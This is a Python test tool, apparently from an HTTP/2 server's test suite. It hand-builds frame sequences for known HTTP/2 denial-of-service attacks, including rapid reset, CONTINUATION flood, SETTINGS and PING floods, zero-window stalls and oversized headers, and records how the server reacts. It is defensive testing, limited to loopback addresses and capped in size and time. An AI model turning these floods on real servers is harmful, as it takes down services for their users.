#!/usr/bin/python3
"""An HTTP/2 attacker for levee's tests: sends the frame sequences of the known HTTP/2 attacks.

An attacker must send what no HTTP/2 library would (a RST_STREAM right behind every HEADERS,
CONTINUATION frames without end, SETTINGS nobody waits for), so the frames are written here
by hand: a minimal encoder (9-byte frame header + payload; HPACK literals without Huffman)
and a reader that decodes the frames a server answers with. Cleartext h2c with prior
knowledge, to 127.0.0.1 only. Every mode is bounded in frames (--limit), bytes (--max-bytes)
and seconds (--seconds).

Modes:
  rapid-reset         HEADERS for a GET, then RST_STREAM(CANCEL) at once, on --limit streams
                      (CVE-2023-44487). The responses are read as they come.
  continuation-flood  HEADERS without END_HEADERS, then CONTINUATION frames full of junk
                      header fields, never END_HEADERS, up to --limit frames or --max-bytes
                      (CVE-2024-28182).
  settings-flood      --limit SETTINGS frames back to back; nothing is read while sending.
  ping-flood          --limit PING frames back to back; nothing is read while sending.
  zero-window         SETTINGS_INITIAL_WINDOW_SIZE = 0 and no WINDOW_UPDATE ever, then GET
                      --path on --limit streams, and the connection held open (frames are read,
                      the window never opened) until the server ends it or --seconds pass.
  header-list-size    one request whose header block is larger than the server's advertised
                      SETTINGS_MAX_HEADER_LIST_SIZE (or --limit bytes when none is advertised).
  get                 not an attack: one well-behaved GET --path, read to its end
                      ("response_complete"), to show that other clients are still served.
  upload              not an attack: a POST --path whose body (declared 2 x --limit bytes)
                      comes in two halves; the second only once --release-file exists (or
                      never, within --seconds). Shows whether the server passes a body on
                      before it has all of it ("released", "response_complete", statuses).

In the flood modes the attacker's receive buffer is made small before connecting, so that the
server's answers (SETTINGS and PING ACKs) back up on the server instead of in our kernel: a
server that queues them without bound is what the flood is meant to show.

After the send phase (in zero-window: once every stream was reset) one PING with a payload of its own is sent as
a probe, and frames are read until its ACK, a GOAWAY, a TCP close or --seconds: a server
answers frames in order, so the probe's ACK means it has processed everything that came before
it and the connection is still open.

Output, one JSON line on stdout:
  {"mode", "frames_sent", "bytes_sent", "seconds", "stopped_because", "ended",
   "goaway": {"last_stream_id", "error_code", "error", "debug"} | null, "tcp_closed",
   "rst_stream_received", "rst_stream_errors", "server_settings", "frames_received", ...}
"ended" is one of "goaway", "tcp_close", "tcp_reset", "still_open" (the probe was
answered), "timeout_still_open" (the attacker's own time cap).
Exit status 0 when the attack ran (whatever its outcome), 1 when it could not start (no
connection, no server SETTINGS), 2 on bad arguments.

  tests/peers/h2_attack.py --host 127.0.0.1 --port P --mode M [--limit N] [--seconds S]
                           [--path /x] [--max-bytes B]
"""

import argparse
import errno
import ipaddress
import json
import os
import select
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

# Frame types (RFC 9113 section 6).
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, \
    CONTINUATION = range(10)
FRAME_NAMES = ["DATA", "HEADERS", "PRIORITY", "RST_STREAM", "SETTINGS", "PUSH_PROMISE", "PING",
               "GOAWAY", "WINDOW_UPDATE", "CONTINUATION"]

FLAG_END_STREAM = 0x1
FLAG_ACK = 0x1
FLAG_END_HEADERS = 0x4

ERROR_NAMES = ["NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR",
               "SETTINGS_TIMEOUT", "STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL",
               "COMPRESSION_ERROR", "CONNECT_ERROR", "ENHANCE_YOUR_CALM", "INADEQUATE_SECURITY",
               "HTTP_1_1_REQUIRED"]
CANCEL = 0x8

SETTINGS_HEADER_TABLE_SIZE = 0x1
SETTINGS_ENABLE_PUSH = 0x2
SETTINGS_MAX_CONCURRENT_STREAMS = 0x3
SETTINGS_INITIAL_WINDOW_SIZE = 0x4
SETTINGS_MAX_FRAME_SIZE = 0x5
SETTINGS_MAX_HEADER_LIST_SIZE = 0x6
SETTINGS_NAMES = {0x1: "HEADER_TABLE_SIZE", 0x2: "ENABLE_PUSH", 0x3: "MAX_CONCURRENT_STREAMS",
                  0x4: "INITIAL_WINDOW_SIZE", 0x5: "MAX_FRAME_SIZE", 0x6: "MAX_HEADER_LIST_SIZE",
                  0x8: "ENABLE_CONNECT_PROTOCOL", 0x9: "NO_RFC7540_PRIORITIES"}

DEFAULT_MAX_FRAME_SIZE = 16384  # every peer must accept this much payload (RFC 9113 4.2)
DEFAULT_WINDOW = 65535  # initial flow-control window of a connection and of a stream
MAX_WINDOW = (1 << 31) - 1
PROBE_PAYLOAD = b"lv-probe"
FLOOD_RECEIVE_BUFFER = 4096
READ_CAP = 256 << 20  # bytes read from the server; beyond it the reader stops counting
HANDSHAKE_SECONDS = 5.0

DEFAULT_LIMITS = {
    "rapid-reset": 20000,  # streams
    "continuation-flood": 1 << 20,  # CONTINUATION frames (the byte cap usually ends it first)
    # Enough frames that the ACKs cannot all fit in the server's socket send buffer (Linux
    # autotunes it up to tcp_wmem's 4 MiB), so they must pile up in the server itself.
    "settings-flood": 1000000,  # SETTINGS frames
    "ping-flood": 1000000,  # PING frames
    "zero-window": 100,  # streams
    "header-list-size": 65536,  # header block bytes, when the server advertises no limit
    "get": 1,  # not an attack: one well-behaved request, to show other clients are served
    "upload": 1024,  # bytes in each half of the body
}


# --- encoder ------------------------------------------------------------------------------

def frame(frame_type, flags, stream_id, payload=b""):
    """One frame: 24-bit payload length, 8-bit type, 8-bit flags, R bit + 31-bit stream id."""
    return (struct.pack(">I", len(payload))[1:] +
            struct.pack(">BBI", frame_type, flags, stream_id & 0x7FFFFFFF) + payload)


def hpack_integer(value, prefix_bits, high_bits=0):
    """HPACK integer (RFC 7541 5.1): fits the prefix, or prefix all ones + 7-bit groups."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([high_bits | value])
    out = bytearray([high_bits | limit])
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_string(text):
    """HPACK string literal, H bit 0: no Huffman coding, the octets as they are."""
    data = text if isinstance(text, bytes) else text.encode("latin-1")
    return hpack_integer(len(data), 7) + data


def hpack_literal(name, value):
    """Literal header field without indexing, new name (RFC 7541 6.2.2): first octet 0x00.
    Nothing enters the dynamic table, so every block decodes on its own."""
    return b"\x00" + hpack_string(name) + hpack_string(value)


def request_block(authority, path, extra=(), method="GET"):
    fields = [(":method", method), (":scheme", "http"), (":path", path),
              (":authority", authority), *extra]
    return b"".join(hpack_literal(name, value) for name, value in fields)


def settings_frame(pairs=(), ack=False):
    payload = b"".join(struct.pack(">HI", key, value) for key, value in pairs)
    return frame(SETTINGS, FLAG_ACK if ack else 0, 0, payload)


def ping_frame(opaque, ack=False):
    return frame(PING, FLAG_ACK if ack else 0, 0, opaque)


def rst_stream_frame(stream_id, error_code):
    return frame(RST_STREAM, 0, stream_id, struct.pack(">I", error_code))


def headers_frame(stream_id, block, end_stream=True, end_headers=True):
    flags = (FLAG_END_STREAM if end_stream else 0) | (FLAG_END_HEADERS if end_headers else 0)
    return frame(HEADERS, flags, stream_id, block)


def window_update_frame(stream_id, increment):
    return frame(WINDOW_UPDATE, 0, stream_id, struct.pack(">I", increment))


def continuation_frame(stream_id, block, end_headers=False):
    return frame(CONTINUATION, FLAG_END_HEADERS if end_headers else 0, stream_id, block)


def junk_fields(size):
    """Valid HPACK literals of junk headers, about `size` bytes: the server must decode them
    (the CPU cost of a CONTINUATION flood) rather than stop at the first bad octet."""
    out = bytearray()
    index = 0
    while len(out) < size - 64:
        out += hpack_literal(f"x-junk-{index}", "j" * 40)
        index += 1
    return bytes(out)


# --- decoder ------------------------------------------------------------------------------

def error_name(code):
    return ERROR_NAMES[code] if code < len(ERROR_NAMES) else f"0x{code:x}"


# HPACK Huffman codes of the ten digits (RFC 7541 appendix B), enough to read a :status.
HUFFMAN_DIGITS = {(0b00000, 5): "0", (0b00001, 5): "1", (0b00010, 5): "2", (0b011001, 6): "3",
                  (0b011010, 6): "4", (0b011011, 6): "5", (0b011100, 6): "6", (0b011101, 6): "7",
                  (0b011110, 6): "8", (0b011111, 6): "9"}
STATIC_STATUS = {8: "200", 9: "204", 10: "206", 11: "304", 12: "400", 13: "404", 14: "500"}


def huffman_digits(data):
    code, bits, out = 0, 0, ""
    for octet in data:
        for shift in range(7, -1, -1):
            code, bits = (code << 1) | ((octet >> shift) & 1), bits + 1
            if (code, bits) in HUFFMAN_DIGITS:
                out += HUFFMAN_DIGITS[(code, bits)]
                code, bits = 0, 0
            elif bits > 6:
                return None if code != (1 << bits) - 1 else out  # EOS padding is all ones
    return out


def decode_integer(block, at, prefix_bits):
    limit = (1 << prefix_bits) - 1
    value = block[at] & limit
    at += 1
    if value < limit:
        return value, at
    shift = 0
    while at < len(block):
        octet = block[at]
        at += 1
        value += (octet & 0x7F) << shift
        shift += 7
        if not octet & 0x80:
            break
    return value, at


def response_status(block):
    """The :status of a response header block when its first field tells it (a static table
    entry, or a literal with name index 8 and a raw or Huffman-coded value); "?" otherwise
    (a dynamic table reference: the attacker keeps no HPACK state)."""
    try:
        first = block[0]
        if first & 0x80:
            index, _ = decode_integer(block, 0, 7)
            return STATIC_STATUS.get(index, "?")
        if first & 0x40:
            index, at = decode_integer(block, 0, 6)
        elif first & 0x20:
            return "?"  # dynamic table size update first: not tracked
        else:
            index, at = decode_integer(block, 0, 4)
        if index != 8:
            return "?"
        huffman = block[at] & 0x80
        length, at = decode_integer(block, at, 7)
        value = block[at:at + length]
        return (huffman_digits(value) if huffman else value.decode("latin-1")) or "?"
    except (IndexError, UnicodeDecodeError):
        return "?"


class Observations:
    """What the server sent, decoded frame by frame from the byte stream."""

    def __init__(self):
        self.buffer = bytearray()
        self.bytes_received = 0
        self.frames = {}
        self.server_settings = {}
        self.server_settings_frames = 0
        self.settings_acks = 0
        self.ping_acks = 0
        self.probe_acked = False
        self.server_pings = 0
        self.rst_streams = 0
        self.rst_errors = {}
        self.first_rst_seconds = None
        self.window_updates = 0
        self.response_headers = 0
        self.statuses = {}
        self.data_bytes = 0
        self.ended_streams = set()  # streams the server finished (END_STREAM or RST_STREAM)
        self.goaway = None
        self.goaway_seconds = None

    def feed(self, data, elapsed):
        self.bytes_received += len(data)
        self.buffer += data
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[0:3], "big")
            if len(self.buffer) < 9 + length:
                break
            frame_type, flags = self.buffer[3], self.buffer[4]
            stream_id = int.from_bytes(self.buffer[5:9], "big") & 0x7FFFFFFF
            payload = bytes(self.buffer[9:9 + length])
            del self.buffer[:9 + length]
            self.on_frame(frame_type, flags, stream_id, payload, elapsed)

    def on_frame(self, frame_type, flags, stream_id, payload, elapsed):
        name = FRAME_NAMES[frame_type] if frame_type < len(FRAME_NAMES) else f"0x{frame_type:x}"
        self.frames[name] = self.frames.get(name, 0) + 1
        if (frame_type in (HEADERS, DATA) and flags & FLAG_END_STREAM) or frame_type == RST_STREAM:
            if len(self.ended_streams) < 1 << 20:
                self.ended_streams.add(stream_id)
        if frame_type == SETTINGS:
            if flags & FLAG_ACK:
                self.settings_acks += 1
                return
            self.server_settings_frames += 1
            for at in range(0, len(payload) - 5, 6):
                key, value = struct.unpack_from(">HI", payload, at)
                self.server_settings[SETTINGS_NAMES.get(key, f"0x{key:x}")] = value
        elif frame_type == PING:
            if flags & FLAG_ACK:
                self.ping_acks += 1
                self.probe_acked = self.probe_acked or payload == PROBE_PAYLOAD
            else:
                self.server_pings += 1
        elif frame_type == RST_STREAM and len(payload) >= 4:
            self.rst_streams += 1
            code = error_name(struct.unpack(">I", payload[:4])[0])
            self.rst_errors[code] = self.rst_errors.get(code, 0) + 1
            if self.first_rst_seconds is None:
                self.first_rst_seconds = elapsed
        elif frame_type == WINDOW_UPDATE:
            self.window_updates += 1
        elif frame_type == HEADERS:
            self.response_headers += 1
            block = payload
            if flags & 0x8:  # PADDED: pad length octet first, padding last
                block = block[1:len(block) - block[0]]
            if flags & 0x20:  # PRIORITY: 5 octets of priority first
                block = block[5:]
            status = response_status(block)
            self.statuses[status] = self.statuses.get(status, 0) + 1
        elif frame_type == DATA:
            self.data_bytes += len(payload)
        elif frame_type == GOAWAY and len(payload) >= 8 and self.goaway is None:
            last_stream_id, code = struct.unpack(">II", payload[:8])
            self.goaway = {"last_stream_id": last_stream_id & 0x7FFFFFFF, "error_code": code,
                           "error": error_name(code),
                           "debug": payload[8:].decode("utf-8", "replace")}
            self.goaway_seconds = elapsed


# --- connection ---------------------------------------------------------------------------

class Connection:
    """A non-blocking socket with a deadline; sends and reads never wait past it."""

    def __init__(self, host, port, deadline, small_receive_buffer):
        self.started = time.monotonic()
        self.deadline = deadline
        self.seen = Observations()
        self.frames_sent = 0
        self.bytes_sent = 0
        self.tcp_end = None  # "tcp_close" or "tcp_reset" once the server ended the TCP stream
        self.tcp_end_seconds = None
        self.read_closed = False  # what the server sent before a reset may still be readable
        self.send_blocked = False
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if small_receive_buffer:
            # Before connect(), so that the window scale offered in the SYN reflects it.
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, FLOOD_RECEIVE_BUFFER)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.socket.settimeout(max(0.1, deadline - time.monotonic()))
        self.socket.connect((host, port))
        self.socket.setblocking(False)

    def elapsed(self):
        return time.monotonic() - self.started

    def remaining(self):
        return self.deadline - time.monotonic()

    @property
    def ended(self):
        return self.tcp_end is not None

    def _mark_end(self, how):
        if self.tcp_end is None:
            self.tcp_end, self.tcp_end_seconds = how, self.elapsed()

    def send(self, data, frames, read_while_blocked=False):
        """Sends all of `data` (`frames` frames) unless the deadline passes or the server ends
        the connection first; returns whether all of it went out. A send that cannot proceed
        means the server stopped reading: noted as send_blocked."""
        view = memoryview(data)
        while view:
            if self.ended:
                return False
            try:
                sent = self.socket.send(view)
                view = view[sent:]
                self.bytes_sent += sent
                continue
            except BlockingIOError:
                pass
            except (BrokenPipeError, ConnectionResetError):
                # What came before the reset (a GOAWAY, a FIN) tells more than the reset.
                self.read_available()
                self._mark_end("tcp_reset")
                return False
            self.send_blocked = True
            remaining = self.remaining()
            if remaining <= 0:
                return False
            readable = [self.socket] if read_while_blocked else []
            ready_read, _, _ = select.select(readable, [self.socket], [], min(remaining, 0.5))
            if ready_read:
                self.read_available()
        self.frames_sent += frames
        return True

    def read_available(self):
        """Reads what has arrived without waiting."""
        while not self.read_closed and self.seen.bytes_received < READ_CAP:
            try:
                data = self.socket.recv(65536)
            except BlockingIOError:
                return
            except ConnectionResetError:
                self.read_closed = True
                self._mark_end("tcp_reset")
                return
            if not data:
                self.read_closed = True
                self._mark_end("tcp_close")
                return
            self.seen.feed(data, self.elapsed())

    def read_until(self, done):
        """Reads until done() holds, the server ends the TCP stream, or the deadline."""
        while not done() and not self.read_closed:
            remaining = self.remaining()
            if remaining <= 0 or self.seen.bytes_received >= READ_CAP:
                return
            ready, _, _ = select.select([self.socket], [], [], min(remaining, 0.5))
            if ready:
                self.read_available()

    def close(self):
        self.socket.close()


# --- modes --------------------------------------------------------------------------------

def handshake(conn, client_settings):
    """Preface and our SETTINGS; then the server's SETTINGS, which we ACK as any client must
    (a missing ACK would end the connection by SETTINGS_TIMEOUT, not by the attack)."""
    conn.send(PREFACE + settings_frame(client_settings), 1)
    saved = conn.deadline
    conn.deadline = min(saved, time.monotonic() + HANDSHAKE_SECONDS)
    conn.read_until(lambda: conn.seen.server_settings_frames > 0)
    conn.deadline = saved
    if conn.seen.server_settings_frames == 0:
        return False
    conn.send(settings_frame(ack=True), 1)
    return True


def batches(total, per_batch):
    while total > 0:
        count = min(total, per_batch)
        yield count
        total -= count


def run_rapid_reset(conn, args):
    request = request_block(args.authority, args.path)
    stream_id = 1
    streams = 0
    for count in batches(args.limit, 100):
        if conn.remaining() <= 0 or conn.bytes_sent >= args.max_bytes or conn.seen.goaway:
            break
        data = bytearray()
        for _ in range(count):
            data += headers_frame(stream_id, request)
            data += rst_stream_frame(stream_id, CANCEL)
            stream_id += 2
        if not conn.send(data, 2 * count, read_while_blocked=True):
            break
        streams += count
        conn.read_available()  # the responses, as a real client would read them
    return {"streams_opened": streams}


def run_continuation_flood(conn, args):
    opening = request_block(args.authority, args.path)
    conn.send(headers_frame(1, opening, end_stream=True, end_headers=False), 1)
    junk = continuation_frame(1, junk_fields(DEFAULT_MAX_FRAME_SIZE))
    per_batch = 16
    sent = 0
    while sent < args.limit and conn.bytes_sent < args.max_bytes and conn.remaining() > 0:
        if conn.seen.goaway:
            break
        count = min(per_batch, args.limit - sent)
        if not conn.send(junk * count, count, read_while_blocked=True):
            break
        sent += count
        conn.read_available()
    return {"continuation_frames": sent}


def run_flood(conn, args, one_frame):
    """SETTINGS or PING frames back to back; nothing read until the send phase is over."""
    sent = 0
    while sent < args.limit and conn.bytes_sent < args.max_bytes and conn.remaining() > 0:
        count = min(1000, args.limit - sent)
        if not conn.send(b"".join(one_frame(sent + k) for k in range(count)), count):
            break
        sent += count
    return {}


def run_zero_window(conn, args):
    request = request_block(args.authority, args.path)
    data = bytearray()
    for index in range(args.limit):
        data += headers_frame(1 + 2 * index, request)
    conn.send(data, args.limit)
    # Hold the connection: read (to see how it ends) but never send a WINDOW_UPDATE.
    conn.read_until(lambda: conn.seen.goaway is not None or
                    conn.seen.rst_streams >= args.limit)
    if conn.seen.goaway is not None:
        conn.read_until(lambda: False)  # until the TCP close that should follow the GOAWAY
    return {"streams_opened": args.limit}


def run_header_list_size(conn, args):
    advertised = conn.seen.server_settings.get("MAX_HEADER_LIST_SIZE")
    target = advertised + 1024 if advertised is not None else args.limit
    # Each field counts name + value + 32 octets towards the list size (RFC 9113 6.5.2).
    fields = []
    size = 0
    while size <= target:
        fields.append((f"x-big-{len(fields)}", "b" * 1000))
        size += len(fields[-1][0]) + 1000 + 32
    block = request_block(args.authority, args.path, fields)
    max_frame = conn.seen.server_settings.get("MAX_FRAME_SIZE", DEFAULT_MAX_FRAME_SIZE)
    pieces = [block[at:at + max_frame] for at in range(0, len(block), max_frame)]
    data = bytearray(headers_frame(1, pieces[0], end_headers=len(pieces) == 1))
    for index, piece in enumerate(pieces[1:], start=2):
        data += continuation_frame(1, piece, end_headers=index == len(pieces))
    conn.send(data, len(pieces), read_while_blocked=True)
    return {"header_list_bytes": size, "header_block_bytes": len(block),
            "header_frames": len(pieces), "advertised_max_header_list_size": advertised}


def run_get(conn, args):
    """A well-behaved client: one GET, read to its end. The "other clients served" check.
    Its stream window is the largest there is (SETTINGS in main()); the connection window
    is raised to match, so that no WINDOW_UPDATE is needed while reading."""
    conn.send(window_update_frame(0, MAX_WINDOW - DEFAULT_WINDOW), 1)
    conn.send(headers_frame(1, request_block(args.authority, args.path)), 1)
    conn.read_until(lambda: 1 in conn.seen.ended_streams or conn.seen.goaway is not None)
    return {"response_complete": 1 in conn.seen.ended_streams and
            conn.seen.rst_streams == 0}


def run_upload(conn, args):
    """A POST whose body's second half waits for --release-file (checked every 10 ms)."""
    conn.send(window_update_frame(0, MAX_WINDOW - DEFAULT_WINDOW), 1)
    block = request_block(args.authority, args.path, [("content-length", str(2 * args.limit))],
                          method="POST")
    conn.send(headers_frame(1, block, end_stream=False), 1)
    conn.send(frame(DATA, 0, 1, b"x" * args.limit), 1)
    released = False
    while conn.remaining() > 0 and not conn.ended and 1 not in conn.seen.ended_streams:
        if args.release_file and os.path.exists(args.release_file):
            released = True
            break
        conn.read_available()
        time.sleep(0.01)
    if released:
        conn.send(frame(DATA, FLAG_END_STREAM, 1, b"y" * args.limit), 1)
        conn.read_until(lambda: 1 in conn.seen.ended_streams or conn.seen.goaway is not None)
    return {"released": released,
            "response_complete": 1 in conn.seen.ended_streams and conn.seen.rst_streams == 0}


def probe(conn):
    """A PING of our own after the attack: its ACK means every earlier frame was processed
    and the connection is still open. After a GOAWAY, read on until the TCP close."""
    conn.read_available()  # the flood modes have read nothing so far
    if not conn.ended and conn.seen.goaway is None and conn.remaining() > 0:
        conn.send(ping_frame(PROBE_PAYLOAD), 1, read_while_blocked=True)
        conn.read_until(lambda: conn.seen.probe_acked or conn.seen.goaway is not None)
    if conn.seen.goaway is not None:
        conn.read_until(lambda: False)


MODES = {
    "rapid-reset": run_rapid_reset,
    "continuation-flood": run_continuation_flood,
    "settings-flood": lambda conn, args: run_flood(
        conn, args, lambda k: settings_frame([(SETTINGS_ENABLE_PUSH, 0)])),
    "ping-flood": lambda conn, args: run_flood(
        conn, args, lambda k: ping_frame(struct.pack(">Q", k))),
    "zero-window": run_zero_window,
    "header-list-size": run_header_list_size,
    "get": run_get,
    "upload": run_upload,
}


def outcome(conn):
    if conn.seen.goaway is not None:
        return "goaway"
    if conn.tcp_end is not None:
        return conn.tcp_end
    if conn.seen.probe_acked:
        return "still_open"
    return "timeout_still_open"


def stop_reason(conn, args):
    if conn.seen.goaway is not None or conn.ended:
        return "connection_ended"
    if conn.bytes_sent >= args.max_bytes:
        return "byte_cap"
    if conn.remaining() <= 0:
        return "time_cap"
    if args.mode == "zero-window":
        return "streams_reset"  # the server gave up every stream; is the connection open?
    return "limit"


def parse_arguments(argv):
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--mode", required=True, choices=sorted(MODES))
    parser.add_argument("--limit", type=int, help="frames or streams; see the modes above")
    parser.add_argument("--seconds", type=float, default=10.0, help="time cap of the whole run")
    parser.add_argument("--max-bytes", type=int, default=64 << 20, help="cap on bytes sent")
    parser.add_argument("--path", default="/")
    parser.add_argument("--release-file", help="upload: send the second half once this exists")
    args = parser.parse_args(argv)
    try:
        loopback = ipaddress.ip_address(args.host).is_loopback
    except ValueError:
        loopback = False
    if not loopback or ipaddress.ip_address(args.host).version != 4:
        parser.error(f"--host {args.host}: only 127.0.0.0/8 may be attacked")
    if args.limit is None:
        args.limit = DEFAULT_LIMITS[args.mode]
    if not 0 < args.limit <= (1 << 30) or args.seconds <= 0 or args.max_bytes <= 0:
        parser.error("--limit must be in 1..2^30, --seconds and --max-bytes positive")
    if args.mode in ("rapid-reset", "zero-window") and args.limit >= (1 << 30):
        parser.error("--limit: stream ids run out at 2^30 streams")
    args.authority = f"{args.host}:{args.port}"
    return args


def main(argv):
    args = parse_arguments(argv)
    started = time.monotonic()
    flood = args.mode in ("settings-flood", "ping-flood")
    client_settings = [(SETTINGS_ENABLE_PUSH, 0)]
    if args.mode == "zero-window":
        client_settings.append((SETTINGS_INITIAL_WINDOW_SIZE, 0))
    elif args.mode in ("get", "upload"):
        client_settings.append((SETTINGS_INITIAL_WINDOW_SIZE, MAX_WINDOW))
    result = {"mode": args.mode, "limit": args.limit}
    try:
        conn = Connection(args.host, args.port, started + args.seconds, flood)
    except OSError as error:
        result["error"] = f"connect to {args.authority}: {error}"
        print(json.dumps(result), flush=True)
        return 1
    try:
        if not handshake(conn, client_settings):
            result["error"] = "no SETTINGS from the server within the handshake time"
            result["frames_received"] = conn.seen.frames
            print(json.dumps(result), flush=True)
            return 1
        detail = MODES[args.mode](conn, args)
        stopped = stop_reason(conn, args)
        probe(conn)
    except OSError as error:
        if error.errno not in (errno.ECONNRESET, errno.EPIPE):
            raise
        conn._mark_end("tcp_reset")
        detail, stopped = {}, "connection_ended"
    finally:
        conn.close()
    seen = conn.seen
    result.update({
        "frames_sent": conn.frames_sent,
        "bytes_sent": conn.bytes_sent,
        "seconds": round(time.monotonic() - started, 3),
        "stopped_because": stopped,
        "send_blocked": conn.send_blocked,
        "ended": outcome(conn),
        "goaway": seen.goaway,
        "goaway_seconds": seen.goaway_seconds,
        "tcp_closed": conn.tcp_end is not None,
        "tcp_end": conn.tcp_end,
        "tcp_end_seconds": conn.tcp_end_seconds,
        "probe_acked": seen.probe_acked,
        "rst_stream_received": seen.rst_streams,
        "rst_stream_errors": seen.rst_errors,
        "first_rst_seconds": seen.first_rst_seconds,
        "server_settings": seen.server_settings,
        "settings_acks_received": seen.settings_acks,
        "ping_acks_received": seen.ping_acks,
        "response_headers": seen.response_headers,
        "response_statuses": seen.statuses,
        "data_bytes_received": seen.data_bytes,
        "window_updates_received": seen.window_updates,
        "frames_received": seen.frames,
        "bytes_received": seen.bytes_received,
        **detail,
    })
    print(json.dumps(result), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
